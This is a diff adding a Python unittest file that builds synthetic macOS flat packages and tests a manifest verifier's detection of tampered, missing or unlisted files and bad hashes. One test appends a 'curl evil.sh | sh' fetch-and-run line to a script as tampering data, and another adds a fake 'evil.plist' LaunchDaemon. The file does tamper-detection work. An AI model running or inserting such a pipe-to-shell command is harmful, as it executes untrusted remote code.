@@ -0,0 +1,149 @@
+"""
+test_manifest.py: Fast validation against synthesized flat pkgs.
+"""
+
+import gzip
+import lzma
+import zlib
+import struct
+import hashlib
+import plistlib
+import tempfile
+import unittest
+
+from pathlib import Path
+
+from baseline import manifest
+
+
+FILES: dict = {
+    "usr/local/Baseline/Baseline.sh":                     b"#!/bin/zsh\necho Baseline\n",
+    "usr/local/Baseline/Scripts/Dock.zsh":                b"#!/bin/zsh\ndockutil --add Safari\n",
+    "Library/LaunchDaemons/com.secondsonconsulting.plist": b"<plist/>\n",
+}
+
+
+def _odc(name: str, data: bytes, mode: int = 0o100644) -> bytes:
+    name = name.encode("utf-8") + b"\0"
+    return b"070707" + b"%06o%06o%06o%06o%06o%06o%06o%011o%06o%011o" % (0, 0, mode, 0, 0, 1, 0, 0, len(name), len(data)) + name + data
+
+
+def _newc(name: str, data: bytes, mode: int = 0o100644) -> bytes:
+    name   = name.encode("utf-8") + b"\0"
+    header = b"070701" + b"%08x" * 13 % (0, mode, 0, 0, 1, 0, len(data), 0, 0, 0, 0, len(name), 0)
+    return header + name + b"\0" * ((4 - (len(header) + len(name)) % 4) % 4) + data + b"\0" * ((4 - len(data) % 4) % 4)
+
+
+def _manifest(files: dict) -> dict:
+    entries = [{"Path": path, "Size": len(data), "SHA256": hashlib.sha256(data).hexdigest()} for path, data in sorted(files.items())]
+    return {"Version": manifest.MANIFEST_VERSION, "Algorithm": "SHA-256", "RootHash": manifest.root_hash(entries), "Files": entries}
+
+
+def _cpio(files: dict, entry=_odc) -> bytes:
+    archive = entry(".", b"", mode=0o040755)
+    for path, data in files.items():
+        archive += entry(f"./{path}", data)
+    return archive + entry("TRAILER!!!", b"", mode=0)
+
+
+def _pbzx(data: bytes) -> bytes:
+    compressed = lzma.compress(data, format=lzma.FORMAT_XZ)
+    return b"pbzx" + struct.pack(">Q", len(data)) + struct.pack(">QQ", len(data), len(compressed)) + compressed
+
+
+def _xar(path: str, payload: bytes) -> bytes:
+    """
+    Flat pkg with Payload stored at 'path' (ex. 'Payload' or 'foo.pkg/Payload').
+    """
+    file = f'<file><name>Payload</name><data><offset>0</offset><length>{len(payload)}</length><size>{len(payload)}</size><encoding style="application/octet-stream"/></data></file>'
+    for parent in reversed(path.split("/")[:-1]):
+        file = f"<file><name>{parent}</name><type>directory</type>{file}</file>"
+    toc = f'<?xml version="1.0" encoding="UTF-8"?><xar><toc><file><name>Distribution</name></file>{file}</toc></xar>'.encode("utf-8")
+
+    compressed = zlib.compress(toc)
+    return struct.pack(">4sHHQQI", b"xar!", 28, 1, len(compressed), len(toc), 1) + compressed + payload
+
+
+class TestVerifyManifest(unittest.TestCase):
+
+    def _pkg(self, files: dict, embedded: dict = None, path: str = "Payload", entry=_odc, compress=gzip.compress) -> str:
+        """
+        Write pkg whose Payload holds files, plus the embedded manifest (defaults to one of files, False for none).
+        """
+        contents = dict(files)
+        if embedded is not False:
+            contents[manifest.MANIFEST_PATH] = plistlib.dumps(embedded if embedded is not None else _manifest(files))
+
+        with tempfile.NamedTemporaryFile(suffix=".pkg", delete=False) as file:
+            file.write(_xar(path, compress(_cpio(contents, entry))))
+        self.addCleanup(Path(file.name).unlink)
+        return file.name
+
+
+    def test_valid(self) -> None:
+        for digests in [manifest.DIGESTS_NONE, manifest.DIGESTS_SAMPLE, manifest.DIGESTS_ALL]:
+            with self.subTest(digests=digests):
+                result = manifest.verify_manifest(self._pkg(FILES), digests=digests)
+                self.assertEqual(result, _manifest(FILES))
+
+
+    def test_valid_nested_distribution(self) -> None:
+        manifest.verify_manifest(self._pkg(FILES, path="foo.pkg/Payload"), digests=manifest.DIGESTS_ALL)
+
+
+    def test_valid_newc_pbzx(self) -> None:
+        manifest.verify_manifest(self._pkg(FILES, entry=_newc, compress=_pbzx), digests=manifest.DIGESTS_ALL)
+
+
+    def test_unlisted_file(self) -> None:
+        files = {**FILES, "Library/LaunchDaemons/evil.plist": b"<plist/>\n"}
+        with self.assertRaisesRegex(Exception, "missing from manifest: Library/LaunchDaemons/evil.plist"):
+            manifest.verify_manifest(self._pkg(files, embedded=_manifest(FILES)), digests=manifest.DIGESTS_NONE)
+
+
+    def test_missing_file(self) -> None:
+        files = dict(FILES)
+        del files["usr/local/Baseline/Baseline.sh"]
+        with self.assertRaisesRegex(Exception, "Missing file in Payload"):
+            manifest.verify_manifest(self._pkg(files, embedded=_manifest(FILES)), digests=manifest.DIGESTS_NONE)
+
+
+    def test_size_mismatch(self) -> None:
+        files = {**FILES, "usr/local/Baseline/Baseline.sh": FILES["usr/local/Baseline/Baseline.sh"] + b"curl evil.sh | sh\n"}
+        with self.assertRaisesRegex(Exception, "Size mismatch"):
+            manifest.verify_manifest(self._pkg(files, embedded=_manifest(FILES)), digests=manifest.DIGESTS_NONE)
+
+
+    def test_sha256_mismatch(self) -> None:
+        original = FILES["usr/local/Baseline/Baseline.sh"]
+        files    = {**FILES, "usr/local/Baseline/Baseline.sh": original.replace(b"echo", b"eval")}
+        pkg      = self._pkg(files, embedded=_manifest(FILES))
+        with self.assertRaisesRegex(Exception, "SHA-256 mismatch"):
+            manifest.verify_manifest(pkg, digests=manifest.DIGESTS_ALL)
+
+        # Headers only can't tell.
+        manifest.verify_manifest(pkg, digests=manifest.DIGESTS_NONE)
+
+
+    def test_missing_manifest(self) -> None:
+        with self.assertRaisesRegex(Exception, "No manifest embedded"):
+            manifest.verify_manifest(self._pkg(FILES, embedded=False))
+
+
+    def test_bad_root_hash(self) -> None:
+        embedded = _manifest(FILES)
+        embedded["RootHash"] = "0" * 64
+        with self.assertRaisesRegex(Exception, "root hash mismatch"):
+            manifest.verify_manifest(self._pkg(FILES, embedded=embedded))
+
+
+    def test_not_xar(self) -> None:
+        with tempfile.NamedTemporaryFile(suffix=".pkg") as file:
+            file.write(b"PK\x03\x04")
+            file.flush()
+            with self.assertRaisesRegex(Exception, "Not a flat pkg"):
+                manifest.verify_manifest(file.name)
+
+
+if __name__ == "__main__":
+    unittest.main()